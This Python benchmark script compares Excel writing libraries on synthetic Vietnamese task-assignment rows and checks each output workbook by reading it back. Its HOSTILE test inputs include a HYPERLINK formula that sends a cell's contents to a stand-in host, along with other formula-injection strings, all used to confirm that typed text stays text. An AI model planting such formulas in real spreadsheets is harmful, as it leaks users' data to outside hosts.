"""Excel writers compared on the same synthetic assignment list (issue 12: 100,000 rows in at most 5 s).

Run from the repository root:

    .venv/bin/python -m bench.excel_bench                       # 100,000 rows, 3 rounds (~5 min on a loaded machine)
    .venv/bin/python -m bench.excel_bench --rows 20000 --rounds 1 --only app,xlsxwriter   # quick look

Every candidate writes the office's list as `app/tracking/excel.py` lays it out (title, description, the frozen
header row repeated on print, autofilter, landscape A4 fitted to the width, column widths, wrapped columns, dates
as DD/MM/YYYY day numbers, typed "=" text kept as text) from rows shaped like `queries.export_rows()` output,
turned into cell values by `excel._values`. The rows are built once (fixed seed) and every candidate is timed on
the same list, the order rotated each round so that the machine's load falls on all of them alike.

Candidates (missing libraries are reported and skipped; `pip install rustpy-xlsxwriter pyexcelerate`):

* `app`: `excel.workbook_bytes` as it is now (rustpy-xlsxwriter).
* `xlsxwriter`: the writer before issue 12 (XlsxWriter 3.3.1, constant_memory, `write_string`/`write_number`).
* `xlsxwriter_private`: the same through the undecorated `_write_string`/`_write_number` (no A1-notation check).
* `xlsxwriter_shared`: the private path with constant_memory off (shared strings, the whole sheet in memory).
* `openpyxl`: openpyxl 3.1.5 write-only mode, styled WriteOnlyCell only where needed (the older comparison).
* `rustpy_prebuilt`: rustpy-xlsxwriter fed a list of records built beforehand (the Rust side alone).
* `pyexcelerate`: PyExcelerate 0.13 with what it can do (no page setup, no print titles; "=" text is a formula).
* `values_only`: no writer: the loop over the rows that builds the cell values, for the Python share.

For each: `<name>_s_median`, `_s_min`, `_s_max` over the rounds (wall clock), `_cpu_s_median` (process CPU time,
all threads: less moved by other work on a shared machine), `_ratio_to_xlsxwriter` and `_cpu_ratio_to_xlsxwriter`
(median / median),
`_bytes`, and `_checks`: a workbook of `--check-rows` rows (hostile text and blank dates included) written by the candidate and
read back with openpyxl: every cell's value and type, the date cells' number format, the wrapped columns, title,
header, freeze, print titles, page setup, autofilter and widths. "ok" or the list of what differs.

Everything is printed as `name: value`; nothing asserts, exit status 0.
"""
import argparse
import gc
import platform
import random
import statistics
import sys
import time
from collections import namedtuple
from datetime import date, datetime, timedelta
from io import BytesIO
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from app.tracking import excel  # noqa: E402
from app.tracking.excel import COLUMNS, DATE_FORMAT, HEADER_ROW, _values  # noqa: E402
from app.text import xml_safe  # noqa: E402

Row = namedtuple("Row", "number symbol issued_date subject section_number task_text agency_name role "
                        "original_deadline deadline status timeliness progress_percent note completed_date")
TITLE = "Nhiệm vụ đã giao — Ủy ban nhân dân tỉnh Kon Tum"
DESCRIPTION = "Lọc: tất cả. Xuất lúc 02/12/2026 18:30 bởi Văn phòng UBND tỉnh."
TODAY = date(2026, 12, 2)
SEED = 20261202
HOSTILE = ('=HYPERLINK("http://example.invalid/?"&C2,"Chi tiết")', "=1+1", "+SUM(1,2)", "-1", "@A1")

TOPICS = ("phòng, chống dịch bệnh", "chuyển đổi số", "cải cách hành chính", "phòng, chống thiên tai",
          "giải ngân vốn đầu tư công", "bảo vệ rừng", "an toàn giao thông", "an toàn thực phẩm",
          "thu ngân sách nhà nước", "xây dựng nông thôn mới", "giảm nghèo bền vững", "phát triển du lịch")
VERBS = ("Chủ trì, phối hợp với các cơ quan, đơn vị liên quan triển khai",
         "Tham mưu Ủy ban nhân dân tỉnh ban hành kế hoạch thực hiện", "Kiểm tra, đôn đốc, hướng dẫn việc",
         "Tổng hợp, báo cáo Ủy ban nhân dân tỉnh kết quả", "Rà soát, đề xuất giải pháp tháo gỡ khó khăn về",
         "Tuyên truyền, phổ biến rộng rãi các quy định của pháp luật về")
CLAUSES = ("bảo đảm đúng tiến độ, chất lượng và hiệu quả", "báo cáo kết quả về Ủy ban nhân dân tỉnh (qua Văn phòng)",
           "trường hợp vượt thẩm quyền, kịp thời báo cáo, đề xuất", "gắn với trách nhiệm người đứng đầu",
           "phối hợp chặt chẽ với Ủy ban nhân dân các huyện, thành phố", "không để xảy ra tình trạng chậm trễ, né tránh")
AGENCY_KINDS = ("Sở {}", "Ủy ban nhân dân {}", "Ủy ban nhân dân xã {} huyện Đắk Hà", "Phòng {} thành phố Kon Tum")
PLACES = ("Y tế", "Giáo dục và Đào tạo", "Tài chính", "Kế hoạch và Đầu tư", "Xây dựng", "Giao thông vận tải",
          "Nông nghiệp và Phát triển nông thôn", "Tài nguyên và Môi trường", "Công Thương", "Tư pháp", "Nội vụ",
          "Đắk Long", "Ngọc Wang", "Hà Mòn", "Đắk Ui", "Ngọk Réo", "Đắk Mar", "Đắk Hring", "Đắk Pxi")
SYMBOLS = ("UBND-KGVX", "CT-UBND", "CĐ-UBND", "TB-UBND", "UBND-KTTH", "UBND-NNTN")
STATUSES = (("chua_thuc_hien", 30), ("dang_thuc_hien", 35), ("cho_xac_nhan", 10), ("hoan_thanh", 25))


def out(name, value):
    print(f"{name}: {value}", flush=True)


def synthetic_rows(count: int, seed: int = SEED) -> list:
    """Rows like queries.export_rows(): 50 assignments a directive, 3-4 agencies a task, 1,500 agencies;
    subjects 60-250 characters, tasks 80-500, notes 40-300 (none before work started)."""
    r = random.Random(seed)
    agencies = [r.choice(AGENCY_KINDS).format(r.choice(PLACES)) + f" ({n})" for n in range(1500)]
    rows = []
    directive = 0
    while len(rows) < count:
        directive += 1
        topic = r.choice(TOPICS)
        number, symbol = str(r.randint(1, 3000)), r.choice(SYMBOLS)
        issued = TODAY - timedelta(days=r.randint(0, 365))
        subject = (f"Về việc tăng cường công tác {topic} trên địa bàn tỉnh (đợt {directive})"
                   + "".join(f", {r.choice(CLAUSES)}" for _ in range(r.randint(0, 3))))
        for section in range(1, r.randint(2, 5)):
            for task in range(1, r.randint(2, 6)):
                text = f"{r.choice(VERBS)} {topic}" + "".join(f"; {r.choice(CLAUSES)}" for _ in range(r.randint(0, 6)))
                text += f" (nhiệm vụ {task})."
                deadline = TODAY + timedelta(days=r.randint(-60, 60)) if r.random() < 0.85 else None
                for position, agency in enumerate(r.sample(agencies, r.randint(3, 4))):
                    status = r.choices([s for s, _w in STATUSES], weights=[w for _s, w in STATUSES])[0]
                    original = deadline - timedelta(days=r.randint(5, 30)) if deadline and r.random() < 0.1 else deadline
                    completed = (TODAY - timedelta(days=r.randint(0, 30))) if status in ("cho_xac_nhan", "hoan_thanh") else None
                    percent = {"chua_thuc_hien": 0, "dang_thuc_hien": r.randrange(10, 95, 5)}.get(status, 100)
                    note = None
                    if status != "chua_thuc_hien":
                        note = (f"Đã triển khai {topic}, đạt {percent}% khối lượng"
                                + "".join(f"; {r.choice(CLAUSES)}" for _ in range(r.randint(0, 4))) + ".")
                    timeliness = ("khong_thoi_han" if deadline is None else "hoan_thanh_dung_han" if completed
                                  else "qua_han" if deadline < TODAY else "trong_han")
                    rows.append(Row(number, symbol, issued, subject, str(section) if r.random() < 0.9 else None, text,
                                    agency, "lead" if position == 0 else "coordinating", original, deadline, status,
                                    timeliness, percent, note, completed))
    return rows[:count]


def check_rows(count: int) -> list:
    """Rows for the read-back check: hostile text on the first rows, then ordinary ones (blank dates among them)."""
    rows = synthetic_rows(count, seed=SEED + 1)
    for index, typed in enumerate(HOSTILE):
        rows[index] = rows[index]._replace(subject=typed, note=typed, section_number=typed, completed_date=None)
    rows[len(HOSTILE)] = rows[len(HOSTILE)]._replace(task_text="Kiểm tra\x01 bếp ăn", note=None, deadline=None)
    return rows


# --- the candidates ----------------------------------------------------------------------------------------

def xlsxwriter_book(rows, title, description, private=False, constant_memory=True):
    """The writer before issue 12 (app/tracking/excel.py at 2b9a5ae), optionally through the private calls."""
    import xlsxwriter

    output = BytesIO()
    book = xlsxwriter.Workbook(output, {"constant_memory": constant_memory, "strings_to_formulas": False,
                                        "strings_to_urls": False, "strings_to_numbers": False})
    sheet = book.add_worksheet("Nhiệm vụ")
    sheet.freeze_panes(HEADER_ROW, 0)
    sheet.set_landscape()
    sheet.set_paper(9)
    sheet.fit_to_pages(1, 0)
    sheet.repeat_rows(HEADER_ROW - 1)
    for index, (_header, width, _wrap) in enumerate(COLUMNS):
        sheet.set_column(index, index, width)
    sheet.write_string(0, 0, xml_safe(title.upper()), book.add_format({"bold": True, "font_size": 14}))
    sheet.write_string(1, 0, xml_safe(description))
    header = book.add_format({"bold": True, "bg_color": "#DDEBF7", "text_wrap": True, "valign": "vcenter"})
    for index, (name, _width, _wrap) in enumerate(COLUMNS):
        sheet.write_string(HEADER_ROW - 1, index, name, header)
    wrap, dates = book.add_format({"text_wrap": True, "valign": "top"}), book.add_format({"num_format": DATE_FORMAT})
    formats = [wrap if wraps else None for _name, _width, wraps in COLUMNS]
    if private:
        write_string, write_number = sheet._write_string, sheet._write_number
    else:
        write_string, write_number = sheet.write_string, sheet.write_number
    safe: dict = {}
    row_number = HEADER_ROW - 1
    count = 0
    epoch = date(1899, 12, 30)
    for row in rows:
        count += 1
        row_number += 1
        for column, value in enumerate(_values(count, row)):
            if value is None or value == "":
                continue
            if isinstance(value, str):
                text = safe.get(value)
                if text is None:
                    text = xml_safe(value)
                    if len(safe) < 50_000:
                        safe[value] = text
                write_string(row_number, column, text, formats[column])
            elif isinstance(value, date):
                write_number(row_number, column, (value - epoch).days, dates)
            else:
                write_number(row_number, column, value)
    sheet.autofilter(HEADER_ROW - 1, 0, HEADER_ROW - 1 + max(count, 1), len(COLUMNS) - 1)
    book.close()
    return output.getvalue()


def openpyxl_book(rows, title, description):
    """openpyxl write-only (app/tracking/excel.py workbook_bytes_openpyxl at 2b9a5ae)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter
    from openpyxl.worksheet.properties import PageSetupProperties

    def text_cell(sheet, value, alignment=None):
        cell = WriteOnlyCell(sheet, value=xml_safe(value))
        if isinstance(value, str):
            cell.data_type = "s"
        if alignment is not None:
            cell.alignment = alignment
        return cell

    book = Workbook(write_only=True)
    sheet = book.create_sheet("Nhiệm vụ")
    sheet.freeze_panes = f"A{HEADER_ROW + 1}"
    sheet.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
    sheet.page_setup.orientation = "landscape"
    sheet.page_setup.paperSize = "9"
    sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight = 1, 0
    sheet.print_title_rows = f"{HEADER_ROW}:{HEADER_ROW}"
    for index, (_header, width, _wrap) in enumerate(COLUMNS, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    heading = text_cell(sheet, title.upper())
    heading.font = Font(bold=True, size=14)
    sheet.append([heading])
    sheet.append([text_cell(sheet, description)])
    sheet.append([])
    bold, fill = Font(bold=True), PatternFill("solid", fgColor="DDEBF7")
    header = []
    for name, _width, _wrap in COLUMNS:
        cell = text_cell(sheet, name, Alignment(wrap_text=True, vertical="center"))
        cell.font, cell.fill = bold, fill
        header.append(cell)
    sheet.append(header)
    wrap = Alignment(wrap_text=True, vertical="top")
    wrapped = {index for index, (_name, _width, wraps) in enumerate(COLUMNS) if wraps}
    count = 0
    for row in rows:
        count += 1
        values = list(_values(count, row))
        for index, value in enumerate(values):
            if isinstance(value, str):
                values[index] = text_cell(sheet, value, wrap if index in wrapped else None)
            elif hasattr(value, "year"):
                cell = WriteOnlyCell(sheet, value=value)
                cell.number_format = DATE_FORMAT
                values[index] = cell
        sheet.append(values)
    last_column = get_column_letter(len(COLUMNS))
    sheet.auto_filter.ref = f"A{HEADER_ROW}:{last_column}{HEADER_ROW + max(count, 1)}"
    output = BytesIO()
    book.save(output)
    return output.getvalue()


def pyexcelerate_book(rows, title, description):
    """PyExcelerate: column widths and styles, frozen rows, autofilter; it has no page setup or print titles,
    and writes any text that starts with "=" as a formula."""
    from pyexcelerate import Alignment, Color, Fill, Font, Format, Panes, Style, Workbook

    data = [[xml_safe(title.upper())], [xml_safe(description)], [], [name for name, _w, _wrap in COLUMNS]]
    count = 0
    for row in rows:
        count += 1
        data.append([xml_safe(value) if isinstance(value, str) else value for value in _values(count, row)])
    book = Workbook()
    sheet = book.new_sheet("Nhiệm vụ", data=data)
    sheet.panes = Panes(y=HEADER_ROW)
    sheet.auto_filter = True
    dates = Style(format=Format(DATE_FORMAT))
    wrap = Style(alignment=Alignment(vertical="top", wrap_text=True))
    for index, (name, width, wraps) in enumerate(COLUMNS, start=1):
        style = wrap if wraps else dates if name.startswith(("Ngày", "Hạn")) else Style()
        style.size = width
        sheet.set_col_style(index, style)
    sheet.set_cell_style(1, 1, Style(font=Font(bold=True, size=14)))
    sheet.set_row_style(HEADER_ROW, Style(font=Font(bold=True), fill=Fill(background=Color(0xDD, 0xEB, 0xF7)),
                                          alignment=Alignment(vertical="center", wrap_text=True)))
    output = BytesIO()
    book.save(output)
    return output.getvalue()


def rustpy_prebuilt(rows, title, description):
    """The app's writer with its records built into a list first: the time is the Rust side's."""
    records = list(excel._records(rows))
    start, cpu_start = time.perf_counter(), time.process_time()
    content = excel._write(records, title, description)
    rustpy_prebuilt.rust_s = (time.perf_counter() - start, time.process_time() - cpu_start)
    return content


def values_only(rows, title, description):
    count = 0
    for row in rows:
        count += 1
        _values(count, row)
    return b""


def _available(module):
    try:
        __import__(module)
        return True
    except ImportError:
        return False


CANDIDATES = {
    "app": (excel.workbook_bytes, "rustpy_xlsxwriter"),
    "xlsxwriter": (xlsxwriter_book, "xlsxwriter"),
    "xlsxwriter_private": (lambda rows, t, d: xlsxwriter_book(rows, t, d, private=True), "xlsxwriter"),
    "xlsxwriter_shared": (lambda rows, t, d: xlsxwriter_book(rows, t, d, private=True, constant_memory=False),
                          "xlsxwriter"),
    "openpyxl": (openpyxl_book, "openpyxl"),
    "rustpy_prebuilt": (rustpy_prebuilt, "rustpy_xlsxwriter"),
    "pyexcelerate": (pyexcelerate_book, "pyexcelerate"),
    "values_only": (values_only, "app"),
}


# --- the read-back check -----------------------------------------------------------------------------------

def checks(content: bytes, rows: list) -> str:
    """What differs from the workbook the tests expect, read back with openpyxl; "ok" when nothing."""
    from openpyxl import load_workbook

    problems = []

    def expect(what, condition):
        if not condition:
            problems.append(what)

    try:
        sheet = load_workbook(BytesIO(content)).active
    except Exception as error:  # noqa: BLE001 - reported, not raised
        return f"does not open: {type(error).__name__}: {error}"
    expect("title", sheet["A1"].value == TITLE.upper() and sheet["A1"].font.b)
    expect("description", sheet["A2"].value == DESCRIPTION)
    header = [cell.value for cell in sheet[HEADER_ROW]]
    expect("header", header == [name for name, _w, _wrap in COLUMNS])
    expect("freeze", sheet.freeze_panes == f"A{HEADER_ROW + 1}")
    expect("print_titles", sheet.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}")
    setup = sheet.page_setup
    expect("landscape_a4", setup.orientation == "landscape" and str(setup.paperSize) == "9")
    expect("fit_to_width", (setup.fitToWidth or 1) == 1 and setup.fitToHeight is not None
           and int(setup.fitToHeight) == 0 and bool(sheet.sheet_properties.pageSetUpPr
                                                     and sheet.sheet_properties.pageSetUpPr.fitToPage))
    expect("autofilter", sheet.auto_filter.ref == f"A{HEADER_ROW}:O{HEADER_ROW + len(rows)}")
    letters = "ABCDEFGHIJKLMNO"
    widths = {}
    for dimension in sheet.column_dimensions.values():  # openpyxl groups equal neighbours (min..max)
        for index in range(dimension.min or 0, (dimension.max or 0) + 1):
            if 1 <= index <= len(letters):
                widths[letters[index - 1]] = dimension.width
    expect("widths", all(widths.get(letters[i], 0) >= width for i, (_n, width, _w) in enumerate(COLUMNS)))
    wrong_value = wrong_type = wrong_format = wrong_wrap = 0
    data = list(sheet.iter_rows(min_row=HEADER_ROW + 1))
    expect("row_count", len(data) == len(rows))
    for count, (row, cells) in enumerate(zip(rows, data), start=1):
        for column, (value, cell) in enumerate(zip(_values(count, row), cells)):
            if isinstance(value, str):
                value = xml_safe(value) or None
            got = cell.value
            if isinstance(value, date):
                wrong_value += not (isinstance(got, datetime) and got.date() == value)
                wrong_format += cell.number_format != DATE_FORMAT
            elif isinstance(value, str):
                wrong_value += got != value
                wrong_type += cell.data_type != "s"
            else:
                wrong_value += got != value
            if COLUMNS[column][2] and value is not None:
                wrong_wrap += not cell.alignment.wrap_text
    for name, wrong in (("values", wrong_value), ("text_types", wrong_type), ("date_formats", wrong_format),
                        ("wrapped", wrong_wrap)):
        expect(f"{name} ({wrong} cells)", wrong == 0)
    return "ok" if not problems else "fails: " + ", ".join(problems)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--rows", type=int, default=100_000)
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--check-rows", type=int, default=3_000)
    parser.add_argument("--only", default="", help="comma-separated candidate names")
    args = parser.parse_args()
    names = [name for name in (args.only.split(",") if args.only else CANDIDATES) if name]
    for name in list(names):
        if name not in CANDIDATES:
            raise SystemExit(f"unknown candidate {name}: {', '.join(CANDIDATES)}")
        if not _available(CANDIDATES[name][1]):
            out(f"{name}_skipped", f"{CANDIDATES[name][1]} not installed")
            names.remove(name)
    out("python", platform.python_version())
    for module in ("xlsxwriter", "openpyxl", "rustpy_xlsxwriter", "pyexcelerate"):
        if _available(module):
            from importlib.metadata import version
            out(f"{module}_version", version({"rustpy_xlsxwriter": "rustpy-xlsxwriter"}.get(module, module)))
    with open("/proc/loadavg") as handle:
        out("loadavg_before", handle.read().split()[0])

    started = time.perf_counter()
    rows = synthetic_rows(args.rows)
    text_chars = sum(len(value) for row in rows[:1000] for value in row if isinstance(value, str))
    out("rows", len(rows))
    out("rows_build_s", round(time.perf_counter() - started, 2))
    out("text_chars_per_row", round(text_chars / min(1000, len(rows))))
    sample = check_rows(args.check_rows)
    for name in names:
        if name != "values_only":
            out(f"{name}_checks", checks(CANDIDATES[name][0](iter(sample), TITLE, DESCRIPTION), sample))

    times = {name: [] for name in names}
    cpu = {name: [] for name in names}
    sizes, rust_s = {}, []
    for round_number in range(args.rounds):
        order = names[round_number % len(names):] + names[:round_number % len(names)]
        for name in order:
            gc.collect()
            start, cpu_start = time.perf_counter(), time.process_time()
            content = CANDIDATES[name][0](iter(rows), TITLE, DESCRIPTION)
            elapsed = time.perf_counter() - start
            times[name].append(elapsed)
            cpu[name].append(time.process_time() - cpu_start)
            sizes[name] = len(content)
            if name == "rustpy_prebuilt":
                rust_s.append(rustpy_prebuilt.rust_s)
            print(f"# round {round_number + 1} {name} {elapsed:.2f} s (cpu {cpu[name][-1]:.2f} s)", flush=True)
            del content
    base = statistics.median(times["xlsxwriter"]) if times.get("xlsxwriter") else None
    for name in names:
        median = statistics.median(times[name])
        out(f"{name}_s_median", round(median, 2))
        out(f"{name}_s_min", round(min(times[name]), 2))
        out(f"{name}_s_max", round(max(times[name]), 2))
        out(f"{name}_cpu_s_median", round(statistics.median(cpu[name]), 2))
        if base:
            out(f"{name}_ratio_to_xlsxwriter", round(median / base, 2))
            out(f"{name}_cpu_ratio_to_xlsxwriter", round(statistics.median(cpu[name]) / statistics.median(cpu["xlsxwriter"]), 2))
        if name != "values_only":
            out(f"{name}_bytes", sizes[name])
    if rust_s:  # the Rust side alone: the list of records already built
        out("rustpy_prebuilt_rust_side_s_median", round(statistics.median(wall for wall, _cpu in rust_s), 2))
        out("rustpy_prebuilt_rust_side_cpu_s_median", round(statistics.median(cpu for _wall, cpu in rust_s), 2))
    with open("/proc/loadavg") as handle:
        out("loadavg_after", handle.read().split()[0])
    out("total_s", round(time.perf_counter() - started, 1))


if __name__ == "__main__":
    main()
